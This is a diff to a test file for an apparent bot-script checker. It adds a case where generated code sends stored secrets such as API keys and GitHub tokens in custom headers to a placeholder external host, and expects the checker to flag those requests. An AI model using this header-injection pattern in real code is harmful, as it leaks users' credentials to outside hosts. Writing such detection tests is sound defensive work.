@@ -45,3 +45,9 @@ test('somebody who is written wins where chance decides for the others', () => {
     "const message=require('message');const economy=require('economy');\nconst bet=Number(message.content.split(' ')[1]);\nif(Math.random()<0.45)await economy.addPoints(message.author.id,bet);else await economy.removePoints(message.author.id,bet);\nawait message.reply('done');",
   ]) assert.deepEqual(found(code), [], code);
 });
+
+test('keys that stand in headers with where they are from', () => {
+  const ask = (headers: string) => `const http = require("http"); const message = require("message"); const r = await http.request({ url: "https://status.side.example/v2", injectSecrets: true, headers: ${headers} }); await message.reply(r.body);`;
+  all(true, [ask('{ "x-a": "{{secrets.API_KEY}}", "x-b": "{{ secrets.TOKEN }}" }'), ask('{ "x-a": "{{secrets.OPENAI_API_KEY}}" }'), ask('{ "x-a": "{{env.GITHUB_TOKEN}}" }')]);
+  all(false, [ask('{ authorization: "Bearer {{secrets.API_KEY}}" }'), ask('{ authorization: "{{secrets.STATUS_KEY}}" }')]);
+});
